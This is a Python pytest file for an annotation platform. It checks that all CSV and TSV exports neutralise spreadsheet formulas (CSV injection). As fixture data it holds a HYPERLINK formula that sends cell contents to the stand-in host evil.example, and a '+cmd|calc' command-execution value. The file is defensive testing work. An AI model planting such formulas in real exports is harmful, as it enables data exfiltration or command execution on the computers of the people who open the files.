"""CSV exports of every kind neutralise spreadsheet formulas (OWASP "CSV
injection"): ids, texts, run and user names that start with = + - @ come out
quoted, whichever export an admin downloads."""

from __future__ import annotations

import csv
import io

import pytest

from annotate.imports.write import import_runs, import_topics
from annotate.models import Topic
from annotate.services.campaigns import create_campaign
from annotate.services.curations import save_curation
from annotate.services.judgments import save_judgment
from annotate.services.members import add_member
from kinds.registry import KINDS
from scoring import jobs

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Usernames allow + - @ (Django's validator), ids anything but white space and '/'.
ASSESSORS = ["+alice", "@bob"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'

TOPICS = {
    "labels": {"items": [{"id": "=i1", "text": EVIL}, {"id": "+i2", "text": "-2+3"}, {"id": "@i3", "text": "@x"}]},
    "pairs": {
        "query": EVIL,
        "candidates": [
            {"id": "=c1", "text": EVIL},
            {"id": "+c2", "text": "-2+3"},
            {"id": "@c3", "text": "@SUM(A1:A9)"},
        ],
    },
    "ordering": {"items": [{"id": "=a", "text": EVIL}, {"id": "+b", "text": "+b"}, {"id": "-c", "text": "-c"}]},
    "clustering": {
        "documents": [{"id": "=d1"}, {"id": "@d2"}],
        "sentences": [
            {"id": "=s1", "document": "=d1", "position": 0, "text": EVIL},
            {"id": "+s2", "document": "=d1", "position": 1, "text": "+x"},
            {"id": "-s3", "document": "@d2", "position": 0, "text": "-x"},
            {"id": "@s4", "document": "@d2", "position": 1, "text": "@x"},
        ],
    },
    "nuggets": {
        "target": EVIL,
        "nuggets": [{"id": "=n1", "text": EVIL, "label": "vital"}, {"id": "+n2", "text": "-n2"}],
        "responses": [{"id": "=r1", "run": "=runA", "text": EVIL}],
    },
    "factoids": {
        "summaries": [
            {"id": "=M1", "author": "+ann", "sentences": [{"id": "=m1", "text": EVIL}, {"id": "+m2", "text": "-x"}]},
            {"id": "@S1", "run": "-sys", "sentences": [{"id": "@x1", "text": "@x"}]},
        ]
    },
    # Systems are ids: no white space and no '/' (EVIL has one), but any of the formula starts.
    "preference": {
        "prompt": EVIL,
        "outputs": [
            {"system": "=SUM(A1:A9)", "text": EVIL},
            {"system": "+cmd|calc", "text": "-2+3"},
            {"system": "@system", "text": "@x"},
        ],
    },
}
PAYLOADS = {
    "labels": {"labels": {"=i1": "=bad", "+i2": "+good", "@i3": None}},
    "pairs": {"matches": {"=c1": True, "+c2": False, "@c3": True}},
    "ordering": {"order": ["+b", "=a", "-c"]},
    "clustering": {"clusters": [["=s1", "-s3"], ["+s2", "@s4"]], "descriptions": [EVIL, "+1"]},
    "nuggets": {"labels": {"=n1": "vital", "+n2": "okay"}},
    "factoids": {
        "factoids": [{"id": "=F1", "text": EVIL}, {"id": "+F2", "text": "-F2"}],
        "marks": {"=m1": ["=F1"], "+m2": ["+F2"], "@x1": ["=F1"]},
    },
    "preference": {
        "verdicts": [
            {"pair": "1-2", "choice": "left", "reason": EVIL},
            {"pair": "1-3", "choice": "tie", "reason": "+1"},
            {"pair": "2-3", "choice": "right"},
        ]
    },
}
RUNS = {
    "labels": [{"name": "=sys1", "data": {"reference": True, "labels": {"=t1": {"=i1": "@meh", "+i2": "=bad"}}}}],
    "pairs": [{"name": "=sys1", "data": {"results": {"=t1": [{"id": "=c1", "text": EVIL}]}}}],
    "ordering": [{"name": "=sys1", "data": {"orderings": {"=t1": ["=a", "+b", "-c"]}}}],
    "clustering": [{"name": "=sys1", "data": {"clusterings": {"=t1": [["=s1", "+s2"]]}}}],
    "nuggets": [{"name": "=runA", "data": {"responses": {"=t1": {"text": EVIL, "matches": ["=n1"]}}}}],
    "factoids": [],
    "preference": [],
}

# Campaign params the samples need (a labels scale whose categories look like formulas).
PARAMS = {"labels": {"level": "nominal", "categories": ["=bad", "+good", "@meh"], "cant_tell": True}}

TEXT_KEYS = {"text", "title", "query", "target", "description", "narrative", "descriptions"}


def formula_looking(kind: str) -> tuple[dict, dict, list]:
    """(topic, payload, runs) of a kind: the formula-laden samples above, or,
    for a kind without any, its own examples with every id prefixed by ``=``
    and every text a formula."""
    if kind in TOPICS:
        return TOPICS[kind], PAYLOADS[kind], RUNS[kind]
    examples = KINDS[kind].examples
    ids = {"t1"}

    def collect(node):
        if isinstance(node, dict):
            ids.update(v for k, v in node.items() if k == "id" and isinstance(v, str))
            for value in node.values():
                collect(value)
        elif isinstance(node, list):
            for value in node:
                collect(value)

    collect(examples.topic)

    def convert(node, key=None):
        if isinstance(node, dict):
            return {("=" + k if k in ids else k): convert(v, k) for k, v in node.items()}
        if isinstance(node, list):
            return [convert(v, key) for v in node]
        if isinstance(node, str):
            return "=" + node if node in ids else EVIL if key in TEXT_KEYS else node
        return node

    runs = [{"name": "=sys1", "data": convert(examples.run)}] if examples.run is not None else []
    return convert(examples.topic), convert(examples.payloads[0]), runs


def params_of(kind: str) -> dict | None:
    return PARAMS.get(kind)


@pytest.fixture
def evil_campaign(people, make_user):
    for name in ASSESSORS:
        make_user(name)

    def make(kind: str):
        campaign = create_campaign(
            creator=people["organiser"], kind=kind, name=f"{kind} evil", overlap=2, params=params_of(kind)
        )
        for name in ASSESSORS:
            add_member(campaign=campaign, username=name, role="assessor")
        topic_data, payload, runs = formula_looking(kind)
        topics = [{"external_id": "=t1", "title": EVIL, "data": topic_data}]
        (topic,) = import_topics(campaign=campaign, topics=topics)
        topic = Topic.objects.get(pk=topic.pk)
        for user in campaign.memberships.filter(role="assessor").select_related("user"):
            save_judgment(topic=topic, assessor=user.user, payload=payload, status="submitted", version=0)
        if runs:
            import_runs(campaign=campaign, runs=runs)
        if kind == "factoids":
            save_curation(topic=topic, name="consensus", data=PAYLOADS[kind], version=0, user=people["organiser"])
            save_curation(
                topic=topic,
                name="relations",
                version=0,
                user=people["organiser"],
                data={"pairs": {"+alice|@bob": [{"first": ["=F1"], "second": ["=F1"]}]}},
            )
        # The stored report, which the exports of scores read (a preference leaderboard: its systems' names).
        jobs.recompute_reports(campaign.pk, everything=True)
        return campaign

    return make


def test_every_kind_is_covered():
    for kind in KINDS:
        topic, payload, _ = formula_looking(kind)
        params = KINDS[kind].params.clean(params_of(kind) or {})
        KINDS[kind].data.clean_payload(payload, KINDS[kind].data.clean_topic_data(topic), complete=True, params=params)


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_csv_exports_neutralise_formulas(api, people, evil_campaign, kind):
    campaign = evil_campaign(kind)
    exports = KINDS[campaign.kind].exports
    admin = api(people["admin"])
    cells = []
    for truth in exports.truths(sorted(ASSESSORS)):
        response = admin.get(f"/api/campaigns/{campaign.pk}/export/", {"format": "csv", "truth": truth})
        if response.status_code == 400:  # a table that needs a finished analysis first
            continue
        assert response.status_code == 200, (truth, response.content[:300])
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells += [(truth, cell) for row in rows[1:] for cell in row]
    assert cells, "no CSV export had any rows"
    quoted = [cell for _, cell in cells if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)]
    assert quoted, "the formula-looking data never reached an export"
    live = [(truth, cell) for truth, cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
    assert not live, live


def is_number(cell: str) -> bool:
    """Numbers Concord writes itself (a negative score, say) are left alone."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_nuggets_tsv_answer_key_neutralises_formulas(api, people, evil_campaign):
    campaign = evil_campaign("nuggets")
    response = api(people["admin"]).get(
        f"/api/campaigns/{campaign.pk}/export/", {"format": "tsv", "truth": "answer-key"}
    )
    assert response.status_code == 200
    cells = [cell for line in response.content.decode().splitlines() for cell in line.split("\t")]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
